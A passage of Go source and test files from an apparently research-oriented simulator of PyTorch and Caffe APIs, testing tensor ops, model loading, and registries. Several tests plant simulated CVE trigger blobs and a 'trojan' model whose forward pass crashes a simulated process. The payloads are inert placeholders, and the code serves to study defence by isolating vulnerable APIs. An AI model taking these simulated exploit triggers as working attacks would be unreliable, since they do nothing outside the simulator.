			// Dataset file: flat float64s, 64 per sample (8x8 digits).
			n := len(raw) / 8
			if n == 0 || n%64 != 0 {
				return nil, fmt.Errorf("simtorch: bad mnist file (%d values)", n)
			}
			vals := make([]float64, n)
			for i := range vals {
				vals[i] = math.Float64frombits(binary.BigEndian.Uint64(raw[i*8:]))
			}
			ctx.Charge(len(raw), 1)
			v, err := newOut(ctx, []int{n / 64, 64}, vals)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	// DataLoader is type-neutral: pure memory batching used right after
	// dataset loads and right before training steps (§A.6).
	dl := &framework.API{
		Name: "torch.utils.data.DataLoader", Framework: Name,
		TrueType: framework.TypeProcessing, Neutral: true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			batch := 16
			if len(args) > 1 && args[1].Int > 0 {
				batch = int(args[1].Int)
			}
			sh := t.Shape()
			if len(sh) != 2 {
				return nil, fmt.Errorf("simtorch: DataLoader wants NxD dataset, got %v", sh)
			}
			if batch > sh[0] {
				batch = sh[0]
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			ctx.EmitMemOp()
			v, err := newOut(ctx, []int{batch, sh[1]}, vals[:batch*sh[1]])
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	}
	r.Register(dl)
}

// stripTrojan removes an embedded trigger blob from a model file so the
// clean part parses (trojans hide alongside valid weights).
func stripTrojan(raw []byte) []byte {
	if i := bytes.Index(raw, []byte("!!CVE:")); i >= 0 {
		return raw[:i]
	}
	return raw
}
