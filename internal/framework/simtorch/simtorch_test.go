package simtorch_test

import (
	"errors"
	"math"
	"testing"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/simtorch"
	"freepart.dev/freepart/internal/kernel"
)

type env struct {
	k   *kernel.Kernel
	ctx *framework.Ctx
	reg *framework.Registry
}

func newEnv(t *testing.T) *env {
	t.Helper()
	k := kernel.New()
	return &env{k: k, ctx: framework.NewCtx(k, k.Spawn("test")), reg: simtorch.Registry()}
}

func (e *env) call(t *testing.T, name string, args ...framework.Value) []framework.Value {
	t.Helper()
	out, err := e.reg.MustGet(name).Exec(e.ctx, args)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return out
}

func (e *env) tensorVal(t *testing.T, vals ...float64) framework.Value {
	t.Helper()
	id, tt, err := e.ctx.NewTensor(len(vals))
	if err != nil {
		t.Fatal(err)
	}
	if err := tt.SetValues(vals); err != nil {
		t.Fatal(err)
	}
	return framework.Obj(id)
}

func (e *env) valuesOf(t *testing.T, v framework.Value) []float64 {
	t.Helper()
	tt, err := e.ctx.Tensor(v)
	if err != nil {
		t.Fatal(err)
	}
	vals, err := tt.Values()
	if err != nil {
		t.Fatal(err)
	}
	return vals
}

func TestModelEncodeDecode(t *testing.T) {
	layers := [][]float64{{1, 2, 3}, {4.5}}
	got, err := simtorch.DecodeModel(simtorch.EncodeModel(layers))
	if err != nil || len(got) != 2 || got[0][1] != 2 || got[1][0] != 4.5 {
		t.Fatalf("round trip = %v, %v", got, err)
	}
	if _, err := simtorch.DecodeModel([]byte("nope")); err == nil {
		t.Fatal("garbage model should fail")
	}
	trunc := simtorch.EncodeModel(layers)
	if _, err := simtorch.DecodeModel(trunc[:len(trunc)-4]); err == nil {
		t.Fatal("truncated model should fail")
	}
}

func TestLoadAndForward(t *testing.T) {
	e := newEnv(t)
	// Identity-ish single layer: 2x2 weights [[1,0],[0,1]].
	e.k.FS.WriteFile("/m.pt", simtorch.EncodeModel([][]float64{{1, 0, 0, 1}}))
	model := e.call(t, "torch.load", framework.Str("/m.pt"))[0]
	in := e.tensorVal(t, 3, 7)
	out := e.call(t, "torch.Module.forward", model, in)
	got := e.valuesOf(t, out[0])
	if len(got) != 2 || got[0] != 3 || got[1] != 7 {
		t.Fatalf("forward = %v", got)
	}
}

func TestForwardMultiLayerRelu(t *testing.T) {
	e := newEnv(t)
	// Layer 1: 2->2 with a negative path; layer 2: 2->1 sum.
	e.k.FS.WriteFile("/m.pt", simtorch.EncodeModel([][]float64{
		{1, 0, -1, 0}, // out = [x0, -x0] -> relu -> [x0, 0]
		{1, 1},        // sum
	}))
	model := e.call(t, "torch.load", framework.Str("/m.pt"))[0]
	out := e.call(t, "torch.Module.forward", model, e.tensorVal(t, 5, 99))
	got := e.valuesOf(t, out[0])
	if len(got) != 1 || got[0] != 5 {
		t.Fatalf("forward = %v (relu should zero the negative path)", got)
	}
}

func TestTrojanModelDetonatesAtForward(t *testing.T) {
	e := newEnv(t)
	clean := simtorch.EncodeModel([][]float64{{1}})
	trojan := append(clean, framework.Trigger(simtorch.CVEStegoNet, []byte("forkbomb"))...)
	e.k.FS.WriteFile("/trojan.pt", trojan)
	// Loading succeeds (the trojan hides in the weights).
	model := e.call(t, "torch.load", framework.Str("/trojan.pt"))[0]
	if !e.ctx.P.Alive() {
		t.Fatal("load should not detonate")
	}
	// Forward detonates.
	_, err := e.reg.MustGet("torch.Module.forward").Exec(e.ctx, []framework.Value{model, e.tensorVal(t, 1)})
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("forward on trojan = %v", err)
	}
}

func TestHubLoadDownloadsViaFileCache(t *testing.T) {
	e := newEnv(t)
	payload := simtorch.EncodeModel([][]float64{{2}})
	e.k.Net.QueueInbound("hub.pytorch.org", payload)
	out := e.call(t, "torch.hub.load", framework.Str("resnet"))
	b, err := e.ctx.Blob(out[0])
	if err != nil {
		t.Fatal(err)
	}
	got, _ := b.Bytes()
	if string(got) != string(payload) {
		t.Fatal("hub.load should return the downloaded bytes")
	}
	if !e.k.FS.Exists("/cache/hub/resnet") {
		t.Fatal("hub.load should cache to disk (memory-copy-via-file)")
	}
}

func TestMNISTAndDataLoader(t *testing.T) {
	e := newEnv(t)
	vals := make([]float64, 64*3) // 3 samples
	for i := range vals {
		vals[i] = float64(i)
	}
	raw := simtorch.EncodeModel(nil)[:0] // build big-endian float64s inline
	for _, v := range vals {
		var b [8]byte
		bits := math.Float64bits(v)
		for i := 0; i < 8; i++ {
			b[i] = byte(bits >> (56 - 8*i))
		}
		raw = append(raw, b[:]...)
	}
	e.k.FS.WriteFile("/data/mnist.bin", raw)
	ds := e.call(t, "torchvision.datasets.MNIST", framework.Str("/data"))[0]
	dt, _ := e.ctx.Tensor(ds)
	if sh := dt.Shape(); sh[0] != 3 || sh[1] != 64 {
		t.Fatalf("dataset shape = %v", sh)
	}
	batch := e.call(t, "torch.utils.data.DataLoader", ds, framework.Int64(2))[0]
	bt, _ := e.ctx.Tensor(batch)
	if sh := bt.Shape(); sh[0] != 2 || sh[1] != 64 {
		t.Fatalf("batch shape = %v", sh)
	}
	if api := e.reg.MustGet("torch.utils.data.DataLoader"); !api.Neutral {
		t.Fatal("DataLoader should be type-neutral")
	}
}

func TestElementwiseAndBinops(t *testing.T) {
	e := newEnv(t)
	in := e.tensorVal(t, -2, 0, 3)
	relu := e.valuesOf(t, e.call(t, "torch.relu", in)[0])
	if relu[0] != 0 || relu[2] != 3 {
		t.Fatalf("relu = %v", relu)
	}
	a, b := e.tensorVal(t, 1, 2), e.tensorVal(t, 10, 20)
	sum := e.valuesOf(t, e.call(t, "torch.add", a, b)[0])
	if sum[0] != 11 || sum[1] != 22 {
		t.Fatalf("add = %v", sum)
	}
	if _, err := e.reg.MustGet("torch.add").Exec(e.ctx, []framework.Value{a, e.tensorVal(t, 1, 2, 3)}); err == nil {
		t.Fatal("length mismatch should fail")
	}
}

func TestMatmul(t *testing.T) {
	e := newEnv(t)
	aid, at, _ := e.ctx.NewTensor(2, 3)
	_ = at.SetValues([]float64{1, 2, 3, 4, 5, 6})
	bid, bt, _ := e.ctx.NewTensor(3, 2)
	_ = bt.SetValues([]float64{7, 8, 9, 10, 11, 12})
	out := e.call(t, "torch.matmul", framework.Obj(aid), framework.Obj(bid))
	got := e.valuesOf(t, out[0])
	want := []float64{58, 64, 139, 154}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("matmul = %v, want %v", got, want)
		}
	}
}

func TestConv2dAndPools(t *testing.T) {
	e := newEnv(t)
	iid, it, _ := e.ctx.NewTensor(4, 4)
	_ = it.SetValues([]float64{
		1, 1, 1, 1,
		1, 9, 1, 1,
		1, 1, 1, 1,
		1, 1, 1, 1,
	})
	kid, kt, _ := e.ctx.NewTensor(3, 3)
	_ = kt.SetValues([]float64{0, 0, 0, 0, 1, 0, 0, 0, 0}) // identity kernel
	conv := e.valuesOf(t, e.call(t, "torch.nn.Conv2d", framework.Obj(iid), framework.Obj(kid))[0])
	if len(conv) != 4 || conv[0] != 9 {
		t.Fatalf("conv = %v", conv)
	}
	mx := e.valuesOf(t, e.call(t, "torch.max_pool2d", framework.Obj(iid))[0])
	if mx[0] != 9 || mx[3] != 1 {
		t.Fatalf("maxpool = %v", mx)
	}
	av := e.valuesOf(t, e.call(t, "torch.avg_pool2d", framework.Obj(iid))[0])
	if av[0] != 3 {
		t.Fatalf("avgpool = %v", av)
	}
}

func TestSoftmaxSumsToOne(t *testing.T) {
	e := newEnv(t)
	out := e.valuesOf(t, e.call(t, "torch.softmax", e.tensorVal(t, 1, 2, 3))[0])
	sum := 0.0
	for _, v := range out {
		sum += v
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Fatalf("softmax sums to %v", sum)
	}
	if !(out[2] > out[1] && out[1] > out[0]) {
		t.Fatalf("softmax not monotone: %v", out)
	}
}

func TestArgmaxReduceOps(t *testing.T) {
	e := newEnv(t)
	in := e.tensorVal(t, 3, 9, 1)
	if got := e.call(t, "torch.argmax", in)[0].Int; got != 1 {
		t.Fatalf("argmax = %d", got)
	}
	if got := e.call(t, "torch.mean", in)[0].Float; math.Abs(got-13.0/3) > 1e-9 {
		t.Fatalf("mean = %v", got)
	}
	if got := e.call(t, "torch.sum", in)[0].Float; got != 13 {
		t.Fatalf("sum = %v", got)
	}
}

func TestReshapeFlatten(t *testing.T) {
	e := newEnv(t)
	in := e.tensorVal(t, 1, 2, 3, 4, 5, 6)
	rs := e.call(t, "torch.reshape", in, framework.Int64(2), framework.Int64(3))[0]
	rt, _ := e.ctx.Tensor(rs)
	if sh := rt.Shape(); sh[0] != 2 || sh[1] != 3 {
		t.Fatalf("reshape shape = %v", sh)
	}
	if _, err := e.reg.MustGet("torch.reshape").Exec(e.ctx, []framework.Value{in, framework.Int64(4), framework.Int64(4)}); err == nil {
		t.Fatal("bad reshape should fail")
	}
	fl := e.call(t, "torch.flatten", rs)[0]
	ft, _ := e.ctx.Tensor(fl)
	if len(ft.Shape()) != 1 || ft.Len() != 6 {
		t.Fatal("flatten should be 1-D")
	}
}

func TestSGDStepUpdatesWeightsInPlace(t *testing.T) {
	e := newEnv(t)
	w := e.tensorVal(t, 1, 1)
	g := e.tensorVal(t, 10, -10)
	e.call(t, "torch.optim.SGD.step", w, g, framework.Float64(0.1))
	got := e.valuesOf(t, w)
	if math.Abs(got[0]-0) > 1e-9 || math.Abs(got[1]-2) > 1e-9 {
		t.Fatalf("sgd = %v", got)
	}
}

func TestSaveAndSummaryWriter(t *testing.T) {
	e := newEnv(t)
	w := e.tensorVal(t, 1.5, 2.5)
	e.call(t, "torch.save", w, framework.Str("/w.pt"))
	raw, err := e.k.FS.ReadFile("/w.pt")
	if err != nil {
		t.Fatal(err)
	}
	layers, err := simtorch.DecodeModel(raw)
	if err != nil || layers[0][1] != 2.5 {
		t.Fatalf("saved model = %v, %v", layers, err)
	}
	e.call(t, "torch.utils.tensorboard.SummaryWriter", framework.Str("/runs"), framework.Float64(0.25))
	if !e.k.FS.Exists("/runs/events.log") {
		t.Fatal("SummaryWriter should append to the event log")
	}
}

func TestCombinations(t *testing.T) {
	e := newEnv(t)
	out := e.call(t, "torch.combinations", e.tensorVal(t, 1, 2, 3))[0]
	ct, _ := e.ctx.Tensor(out)
	if sh := ct.Shape(); sh[0] != 3 || sh[1] != 2 {
		t.Fatalf("combinations shape = %v", sh)
	}
}

func TestRegistryTypeSpread(t *testing.T) {
	counts := map[framework.APIType]int{}
	for _, a := range simtorch.Registry().All() {
		counts[a.TrueType]++
	}
	if counts[framework.TypeLoading] < 3 || counts[framework.TypeProcessing] < 15 || counts[framework.TypeStoring] < 2 {
		t.Fatalf("type spread = %v", counts)
	}
	// Per Table 4, PyTorch has no visualizing APIs.
	if counts[framework.TypeVisualizing] != 0 {
		t.Fatal("simtorch should have no visualizing APIs")
	}
}
