package framework

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"

	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

func TestAPITypeStrings(t *testing.T) {
	for ty, want := range map[APIType]string{
		TypeLoading: "DL", TypeProcessing: "DP", TypeVisualizing: "V",
		TypeStoring: "ST", TypeNeutral: "N", TypeUnknown: "?",
	} {
		if ty.String() != want {
			t.Errorf("%d.String() = %q, want %q", ty, ty.String(), want)
		}
	}
	if TypeLoading.Long() != "Data Loading" || TypeStoring.Long() != "Storing" {
		t.Error("Long names wrong")
	}
	if len(ConcreteTypes()) != 4 {
		t.Error("four concrete types expected")
	}
}

func TestOpString(t *testing.T) {
	if got := WriteOp(StorageMem, StorageFile).String(); got != "W(MEM, R(FILE))" {
		t.Fatalf("op = %q", got)
	}
	if got := ReadOp(StorageGUI).String(); got != "R(GUI)" {
		t.Fatalf("read op = %q", got)
	}
}

func TestValueConstructors(t *testing.T) {
	cases := []struct {
		v    Value
		want ValueKind
	}{
		{Nil(), ValNil}, {Int64(3), ValInt}, {Float64(1.5), ValFloat},
		{Str("x"), ValStr}, {Bool(true), ValBool}, {Obj(9), ValObj},
	}
	for _, c := range cases {
		if c.v.Kind != c.want {
			t.Errorf("kind = %v, want %v", c.v.Kind, c.want)
		}
		if c.v.String() == "" {
			t.Error("empty String()")
		}
	}
	if !Obj(1).IsObj() || Int64(1).IsObj() {
		t.Error("IsObj wrong")
	}
}

func TestCallEncodeDecodeRoundTrip(t *testing.T) {
	c := Call{
		API:      "cv.imread",
		Args:     []Value{Str("/in.png"), Int64(3), Obj(7)},
		Payloads: [][]byte{nil, nil, {1, 2, 3}},
	}
	b, err := EncodeCall(c)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeCall(b)
	if err != nil {
		t.Fatal(err)
	}
	if got.API != c.API || len(got.Args) != 3 || got.Args[0].Str != "/in.png" ||
		got.Args[2].Obj != 7 || !bytes.Equal(got.Payloads[2], []byte{1, 2, 3}) {
		t.Fatalf("round trip = %+v", got)
	}
}

func TestReplyEncodeDecodeRoundTrip(t *testing.T) {
	r := Reply{
		Results:         []Value{Bool(true), Obj(5)},
		Payloads:        [][]byte{nil, {9}},
		UpdatedArgs:     []Value{Obj(2)},
		UpdatedPayloads: [][]byte{{4, 4}},
	}
	b, err := EncodeReply(r)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeReply(b)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Results) != 2 || !got.Results[0].Bool || got.Results[1].Obj != 5 ||
		!bytes.Equal(got.UpdatedPayloads[0], []byte{4, 4}) {
		t.Fatalf("round trip = %+v", got)
	}
}

func TestDecodeGarbage(t *testing.T) {
	if _, err := DecodeCall([]byte("junk")); err == nil {
		t.Fatal("garbage call should fail to decode")
	}
	if _, err := DecodeReply([]byte{0xFF}); err == nil {
		t.Fatal("garbage reply should fail to decode")
	}
}

func TestTriggerParse(t *testing.T) {
	data := Trigger("CVE-2017-12597", []byte("payload"))
	cve, payload, ok := ParseTrigger(data)
	if !ok || cve != "CVE-2017-12597" || string(payload) != "payload" {
		t.Fatalf("parse = %q %q %v", cve, payload, ok)
	}
	if _, _, ok := ParseTrigger([]byte("IMG1normal")); ok {
		t.Fatal("benign data should not parse as trigger")
	}
	if _, _, ok := ParseTrigger([]byte("!!CVE:unterminated")); ok {
		t.Fatal("unterminated trigger should not parse")
	}
}

func TestTriggerRoundTripProperty(t *testing.T) {
	f := func(payload []byte) bool {
		cve, p, ok := ParseTrigger(Trigger("CVE-X", payload))
		return ok && cve == "CVE-X" && bytes.Equal(p, payload)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestRegistryBasics(t *testing.T) {
	r := NewRegistry()
	r.Register(&API{Name: "a.one", Framework: "a", TrueType: TypeLoading})
	r.Register(&API{Name: "a.two", Framework: "a", TrueType: TypeProcessing})
	r.Register(&API{Name: "b.one", Framework: "b", TrueType: TypeStoring})
	if r.Len() != 3 {
		t.Fatal("Len wrong")
	}
	if _, ok := r.Get("a.one"); !ok {
		t.Fatal("Get failed")
	}
	if got := r.ByFramework("a"); len(got) != 2 || got[0].Name != "a.one" {
		t.Fatalf("ByFramework = %v", got)
	}
	if fw := r.Frameworks(); len(fw) != 2 || fw[0] != "a" || fw[1] != "b" {
		t.Fatalf("Frameworks = %v", fw)
	}
	all := r.All()
	if len(all) != 3 || all[0].Name != "a.one" || all[2].Name != "b.one" {
		t.Fatalf("All not sorted: %v", all)
	}
}

func TestRegistryDuplicatePanics(t *testing.T) {
	r := NewRegistry()
	r.Register(&API{Name: "x"})
	defer func() {
		if recover() == nil {
			t.Fatal("duplicate Register should panic")
		}
	}()
	r.Register(&API{Name: "x"})
}

func TestRegistryMustGetPanics(t *testing.T) {
	r := NewRegistry()
	defer func() {
		if recover() == nil {
			t.Fatal("MustGet of missing API should panic")
		}
	}()
	r.MustGet("missing")
}

func TestRegistryDefaultsIntensity(t *testing.T) {
	r := NewRegistry()
	r.Register(&API{Name: "x"})
	if a, _ := r.Get("x"); a.Intensity != 1 {
		t.Fatalf("intensity = %v, want 1 default", a.Intensity)
	}
}

func TestAPIHasCVE(t *testing.T) {
	a := &API{CVEs: []string{"CVE-1", "CVE-2"}}
	if !a.HasCVE("CVE-1") || a.HasCVE("CVE-3") || !a.Vulnerable() {
		t.Fatal("HasCVE wrong")
	}
	if (&API{}).Vulnerable() {
		t.Fatal("no-CVE API should not be vulnerable")
	}
}

func TestExecRequiresImplAndLiveProcess(t *testing.T) {
	k := kernel.New()
	p := k.Spawn("x")
	ctx := NewCtx(k, p)
	a := &API{Name: "no.impl"}
	if _, err := a.Exec(ctx, nil); err == nil {
		t.Fatal("Exec without impl should fail")
	}
	a.Impl = func(ctx *Ctx, args []Value) ([]Value, error) { return nil, nil }
	if _, err := a.Exec(ctx, nil); err != nil {
		t.Fatal(err)
	}
	k.Crash(p, "dead")
	if _, err := a.Exec(ctx, nil); !errors.Is(err, kernel.ErrProcessDead) {
		t.Fatalf("Exec on dead process = %v", err)
	}
}

func TestExecSetsAPINameForTracing(t *testing.T) {
	k := kernel.New()
	ctx := NewCtx(k, k.Spawn("x"))
	var seen string
	a := &API{Name: "observed.api", Impl: func(c *Ctx, args []Value) ([]Value, error) {
		seen = c.APIName()
		return nil, nil
	}}
	if _, err := a.Exec(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if seen != "observed.api" {
		t.Fatalf("APIName during exec = %q", seen)
	}
	if ctx.APIName() != "" {
		t.Fatal("APIName should reset after exec")
	}
}

type recordingTracer struct {
	ops []struct {
		api string
		op  Op
	}
}

func (r *recordingTracer) RecordOp(api string, op Op) {
	r.ops = append(r.ops, struct {
		api string
		op  Op
	}{api, op})
}

func TestCtxIOEmitsOps(t *testing.T) {
	k := kernel.New()
	k.FS.WriteFile("/f", []byte("data"))
	ctx := NewCtx(k, k.Spawn("x"))
	tr := &recordingTracer{}
	ctx.Tracer = tr
	a := &API{Name: "io.api", Impl: func(c *Ctx, args []Value) ([]Value, error) {
		if _, err := c.FileRead("/f"); err != nil {
			return nil, err
		}
		if err := c.FileWrite("/out", []byte("x")); err != nil {
			return nil, err
		}
		c.EmitMemOp()
		return nil, nil
	}}
	if _, err := a.Exec(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if len(tr.ops) != 3 {
		t.Fatalf("recorded %d ops, want 3", len(tr.ops))
	}
	if tr.ops[0].op.String() != "W(MEM, R(FILE))" || tr.ops[0].api != "io.api" {
		t.Fatalf("op[0] = %v by %s", tr.ops[0].op, tr.ops[0].api)
	}
	if tr.ops[1].op.String() != "W(FILE, R(MEM))" {
		t.Fatalf("op[1] = %v", tr.ops[1].op)
	}
}

func TestMaybeExploitDefaultCrashes(t *testing.T) {
	k := kernel.New()
	p := k.Spawn("agent")
	ctx := NewCtx(k, p)
	api := &API{Name: "vuln.api", CVEs: []string{"CVE-9"}}
	fired, err := ctx.MaybeExploit(api, Trigger("CVE-9", nil))
	if !fired || !errors.Is(err, ErrExploited) {
		t.Fatalf("exploit = %v, %v", fired, err)
	}
	if p.Alive() {
		t.Fatal("default exploit handler should crash the process")
	}
}

func TestMaybeExploitWrongCVEInert(t *testing.T) {
	k := kernel.New()
	p := k.Spawn("agent")
	ctx := NewCtx(k, p)
	api := &API{Name: "other.api", CVEs: []string{"CVE-1"}}
	fired, err := ctx.MaybeExploit(api, Trigger("CVE-2", nil))
	if fired || err != nil {
		t.Fatalf("crafted input for absent CVE should be inert: %v %v", fired, err)
	}
	if !p.Alive() {
		t.Fatal("process should survive inert input")
	}
}

func TestMaybeExploitCustomHandler(t *testing.T) {
	k := kernel.New()
	ctx := NewCtx(k, k.Spawn("agent"))
	var gotCVE string
	var gotPayload []byte
	ctx.OnExploit = func(c *Ctx, cve string, payload []byte) error {
		gotCVE, gotPayload = cve, payload
		return nil
	}
	api := &API{Name: "vuln", CVEs: []string{"CVE-7"}}
	fired, err := ctx.MaybeExploit(api, Trigger("CVE-7", []byte("pp")))
	if !fired || err != nil {
		t.Fatal("custom handler should fire without error")
	}
	if gotCVE != "CVE-7" || string(gotPayload) != "pp" {
		t.Fatalf("handler saw %q %q", gotCVE, gotPayload)
	}
}

func TestCtxObjectHelpers(t *testing.T) {
	k := kernel.New()
	ctx := NewCtx(k, k.Spawn("x"))
	mid, _, err := ctx.NewMat(2, 2, 1)
	if err != nil {
		t.Fatal(err)
	}
	tid, _, err := ctx.NewTensor(3)
	if err != nil {
		t.Fatal(err)
	}
	bid, _, err := ctx.NewBlob([]byte("b"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ctx.Mat(Obj(mid)); err != nil {
		t.Fatal(err)
	}
	if _, err := ctx.Tensor(Obj(tid)); err != nil {
		t.Fatal(err)
	}
	if _, err := ctx.Blob(Obj(bid)); err != nil {
		t.Fatal(err)
	}
	// Type confusion errors.
	if _, err := ctx.Mat(Obj(tid)); err == nil {
		t.Fatal("Mat of tensor should fail")
	}
	if _, err := ctx.Tensor(Obj(bid)); err == nil {
		t.Fatal("Tensor of blob should fail")
	}
	if _, err := ctx.Blob(Obj(mid)); err == nil {
		t.Fatal("Blob of mat should fail")
	}
	if _, err := ctx.Obj(Int64(3)); err == nil {
		t.Fatal("Obj of non-object should fail")
	}
	if _, err := ctx.Obj(Obj(999)); err == nil {
		t.Fatal("dangling id should fail")
	}
}

func TestCtxDeviceAndNetHelpers(t *testing.T) {
	k := kernel.New()
	cam := kernel.NewCamera("/dev/cam")
	cam.Push([]byte{1, 2})
	k.AddCamera(cam)
	k.Net.QueueInbound("srv", []byte("dl"))
	ctx := NewCtx(k, k.Spawn("x"))
	tr := &recordingTracer{}
	ctx.Tracer = tr
	a := &API{Name: "dev.api", Impl: func(c *Ctx, args []Value) ([]Value, error) {
		if frame, ok, err := c.CameraRead("/dev/cam"); err != nil || !ok || len(frame) != 2 {
			t.Fatalf("CameraRead = %v %v %v", frame, ok, err)
		}
		if _, ok, err := c.CameraRead("/dev/cam"); err != nil || ok {
			t.Fatalf("drained camera: ok=%v err=%v", ok, err)
		}
		if data, ok, err := c.NetDownload("srv"); err != nil || !ok || string(data) != "dl" {
			t.Fatalf("NetDownload = %q %v %v", data, ok, err)
		}
		if err := c.NetSend("out", []byte("up")); err != nil {
			t.Fatal(err)
		}
		if err := c.FileAppend("/log", []byte("x")); err != nil {
			t.Fatal(err)
		}
		if err := c.GUIShow("w", 10); err != nil {
			t.Fatal(err)
		}
		if err := c.GUIOp("move", "w"); err != nil {
			t.Fatal(err)
		}
		if names, err := c.GUIReadState(); err != nil || len(names) != 1 {
			t.Fatalf("GUIReadState = %v %v", names, err)
		}
		c.Charge(100, 2)
		return nil, nil
	}}
	if _, err := a.Exec(ctx, nil); err != nil {
		t.Fatal(err)
	}
	if len(k.Net.SentTo("out")) != 1 {
		t.Fatal("NetSend not recorded")
	}
	// Ops recorded: DEV read, MEM<-DEV download, DEV<-MEM send, FILE
	// append, GUI show, R(GUI), MEM<-GUI.
	if len(tr.ops) < 7 {
		t.Fatalf("recorded %d ops", len(tr.ops))
	}
	if k.Clock.Now() == 0 {
		t.Fatal("Charge should advance the clock")
	}
}

func TestRegistryMerge(t *testing.T) {
	a := NewRegistry()
	a.Register(&API{Name: "a.one"})
	b := NewRegistry()
	b.Register(&API{Name: "b.one"})
	a.Merge(b)
	if a.Len() != 2 {
		t.Fatalf("merged len = %d", a.Len())
	}
}

func TestValueRefString(t *testing.T) {
	v := RefVal(object.Ref{PID: 2, ID: 5, Size: 64})
	if v.Kind != ValRef || !v.IsObj() || v.String() == "" {
		t.Fatalf("ref value = %+v", v)
	}
	unknown := Value{Kind: ValueKind(99)}
	if unknown.String() == "" {
		t.Fatal("unknown kind should still render")
	}
}

func TestTypeLongNames(t *testing.T) {
	for ty, want := range map[APIType]string{
		TypeLoading: "Data Loading", TypeProcessing: "Data Processing",
		TypeVisualizing: "Visualizing", TypeStoring: "Storing",
		TypeNeutral: "Type-Neutral", TypeUnknown: "Unknown",
	} {
		if ty.Long() != want {
			t.Errorf("%v.Long() = %q", ty, ty.Long())
		}
	}
}

func TestNewMatFromBytesHelper(t *testing.T) {
	k := kernel.New()
	ctx := NewCtx(k, k.Spawn("x"))
	id, m, err := ctx.NewMatFromBytes(2, 2, 1, []byte{1, 2, 3, 4})
	if err != nil || m.Size() != 4 {
		t.Fatalf("helper = %v %v", m, err)
	}
	if _, ok := ctx.Table.Get(id); !ok {
		t.Fatal("mat not registered")
	}
	if _, _, err := ctx.NewMatFromBytes(2, 2, 1, []byte{1}); err == nil {
		t.Fatal("short data should fail")
	}
}
