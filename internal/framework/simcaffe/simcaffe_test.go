package simcaffe_test

import (
	"testing"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/simcaffe"
	"freepart.dev/freepart/internal/kernel"
)

type env struct {
	k   *kernel.Kernel
	ctx *framework.Ctx
	reg *framework.Registry
}

func newEnv(t *testing.T) *env {
	t.Helper()
	k := kernel.New()
	return &env{k: k, ctx: framework.NewCtx(k, k.Spawn("test")), reg: simcaffe.Registry()}
}

func (e *env) call(t *testing.T, name string, args ...framework.Value) []framework.Value {
	t.Helper()
	out, err := e.reg.MustGet(name).Exec(e.ctx, args)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return out
}

func TestParsePrototxt(t *testing.T) {
	names, sizes, err := simcaffe.ParsePrototxt("# net\nconv1 4\nfc 2\n")
	if err != nil || len(names) != 2 || names[0] != "conv1" || sizes[1] != 2 {
		t.Fatalf("parse = %v %v %v", names, sizes, err)
	}
	for _, bad := range []string{"", "layer", "layer abc", "layer -1"} {
		if _, _, err := simcaffe.ParsePrototxt(bad); err == nil {
			t.Errorf("ParsePrototxt(%q) should fail", bad)
		}
	}
}

func TestNetLifecycle(t *testing.T) {
	e := newEnv(t)
	e.k.FS.WriteFile("/net.prototxt", []byte("fc1 4\nfc2 2\n"))
	proto := e.call(t, "caffe.ReadProtoFromTextFile", framework.Str("/net.prototxt"))[0]
	weights := e.call(t, "caffe.Net", proto)[0]
	wt, _ := e.ctx.Tensor(weights)
	if wt.Len() != 6 {
		t.Fatalf("net weights = %d", wt.Len())
	}
	v0, _ := wt.AtFlat(0)
	v5, _ := wt.AtFlat(5)
	if v0 != 0.1 || v5 != 0.2 {
		t.Fatalf("layer init = %v ... %v", v0, v5)
	}

	iid, it, _ := e.ctx.NewTensor(2)
	_ = it.SetValues([]float64{1, 2})
	out := e.call(t, "caffe.Net.Forward", weights, framework.Obj(iid))
	ot, _ := e.ctx.Tensor(out[0])
	if ot.Len() != 3 {
		t.Fatalf("forward outputs = %d", ot.Len())
	}
	grads := e.call(t, "caffe.Net.Backward", out[0])[0]
	gt, _ := e.ctx.Tensor(grads)
	g0, _ := gt.AtFlat(0)
	o0, _ := ot.AtFlat(0)
	if g0 != 2*o0 {
		t.Fatalf("backward grad = %v for out %v", g0, o0)
	}
}

func TestReadProtoBinaryAndCopyLayers(t *testing.T) {
	e := newEnv(t)
	// Trained weights: two float64s.
	raw := make([]byte, 16)
	raw[7] = 0 // zeros are valid floats
	e.k.FS.WriteFile("/weights.caffemodel", raw)
	blob := e.call(t, "caffe.ReadProtoFromBinaryFile", framework.Str("/weights.caffemodel"))[0]

	wid, wt, _ := e.ctx.NewTensor(4)
	_ = wt.SetValues([]float64{9, 9, 9, 9})
	e.call(t, "caffe.Net.CopyTrainedLayersFrom", framework.Obj(wid), blob)
	v0, _ := wt.AtFlat(0)
	v3, _ := wt.AtFlat(3)
	if v0 != 0 || v3 != 9 {
		t.Fatalf("copy = %v ... %v (first 2 overwritten, rest kept)", v0, v3)
	}
}

func TestSolverStep(t *testing.T) {
	e := newEnv(t)
	wid, wt, _ := e.ctx.NewTensor(2)
	_ = wt.SetValues([]float64{1, 1})
	gid, gt, _ := e.ctx.NewTensor(2)
	_ = gt.SetValues([]float64{100, -100})
	e.call(t, "caffe.SGDSolver.Step", framework.Obj(wid), framework.Obj(gid))
	v0, _ := wt.AtFlat(0)
